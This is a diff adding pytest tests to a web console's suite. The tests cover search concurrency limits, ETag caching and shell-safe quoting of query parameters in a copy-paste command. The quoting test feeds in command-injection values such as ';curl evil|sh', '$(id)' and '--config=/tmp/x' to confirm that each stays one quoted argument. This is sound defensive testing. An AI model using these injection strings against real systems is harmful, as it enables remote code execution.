@@ -2,12 +2,19 @@
 
 from __future__ import annotations
 
+import html
 import json
+import re
+import shlex
 from datetime import UTC, datetime, timedelta
 from typing import TYPE_CHECKING
+from urllib.parse import quote
 
 import pytest
 
+from glassq.console.console import LOOKUPS, SEARCHES
+from glassq.console.filtering import quoted
+from glassq.console.server import THREADS
 from glassq.ledger import Entry, open_ledger
 from glassq.operations import activity
 from glassq.operations.progress import Silent
@@ -168,6 +175,36 @@ def test_a_search_that_names_one_goes_straight_there(viewer: Browser, at_work: S
     assert "Nothing was found" in words_of(viewer.get("/search?q=zzzz"))
 
 
+def test_searches_do_not_hold_all_threads(at_work: Site, viewer: Browser) -> None:
+    operator, places = at_work.signed_in(), at_work.console.searches
+    assert SEARCHES + LOOKUPS < THREADS
+    with places.one(VIEWER):
+        answer = viewer.get("/search?q=zzzz")
+        assert (answer.status_code, answer.headers["retry-after"]) == (429, "2")
+        assert "as many searches go on as may: 1 of yours" in words_of(answer)
+        # without words nothing is looked for
+        assert viewer.get("/search").status_code == 200
+        assert operator.get("/search?q=zzzz").status_code == 200
+        with places.one("somebody"):
+            assert "as many searches go on as may: 2" in words_of(operator.get("/search?q=zzzz"))
+    assert viewer.get("/search?q=zzzz").status_code == 200
+
+
+def test_a_page_that_says_nothing_new_is_not_sent_again(at_work: Site, viewer: Browser) -> None:
+    for path in ("/activity", "/live", "/sources", "/health"):
+        page = viewer.get(path)
+        at_work.clock.go_on(7)
+        again = viewer.get(path, If_None_Match=page.headers["etag"])
+        assert (again.status_code, again.text) == (304, ""), path
+    answer = viewer.get("/live?state=done", If_None_Match=page.headers["etag"])
+    assert answer.status_code == 200
+
+
+@pytest.mark.parametrize("path", ["/search?q=abc&since=9999999d", "/search?q=abc&until=9999999d", "/?part=main"])
+def test_what_nobody_would_ask_is_no_bug_of_ours(viewer: Browser, path: str) -> None:
+    assert viewer.get(path).status_code == 200
+
+
 @pytest.mark.parametrize(
     ("path", "says"),
     [
@@ -188,6 +225,34 @@ def test_live_can_be_narrowed(viewer: Browser) -> None:
     assert [row["state"] for row in viewer.json("/live.json?state=done")] == ["done"]
     assert viewer.json("/live.json?source=github") == []
     assert len(viewer.json("/live.json?tube=glassq")) == 2
+
+
+@pytest.mark.parametrize(
+    "path", ["/live?tube={}", "/live?source={}", "/activity?who={}", "/activity?did={}", "/buried?words={}"]
+)
+@pytest.mark.parametrize("evil", [";curl evil|sh", "$(id)", "`id`", "a' b", "--config=/tmp/x", "-x"])
+def test_a_link_by_mail_puts_nothing_into_the_shell_that_its_command_is_pasted_into(
+    viewer: Browser, path: str, evil: str
+) -> None:
+    answer = viewer.get(path.format(quote(evil)))
+    assert answer.status_code == 200
+    shown = re.search(r'<code id="command">(.*?)</code>', answer.text, re.DOTALL)
+    assert shown is not None
+    words = shlex.split(html.unescape(shown[1]))
+    option = path.partition("?")[2].partition("=")[0]
+    apart = [f"--{option}", evil]
+    if option == "words":
+        apart = [f"words={evil}"]
+    elif evil.startswith("-"):
+        # it would be taken for an option of its own
+        apart = [f"--{option}={evil}"]
+    assert words[-len(apart) :] == apart
+
+
+def test_a_reference_that_looks_like_an_option_is_none() -> None:
+    assert quoted("--config=/tmp/x") == "-- --config=/tmp/x"
+    assert quoted("swf:a;b") == "'swf:a;b'"
+    assert quoted("20261129T0001-ab") == "20261129T0001-ab"
 
 
 def test_activity_shows_who_did_what(viewer: Browser, at_work: Site) -> None:
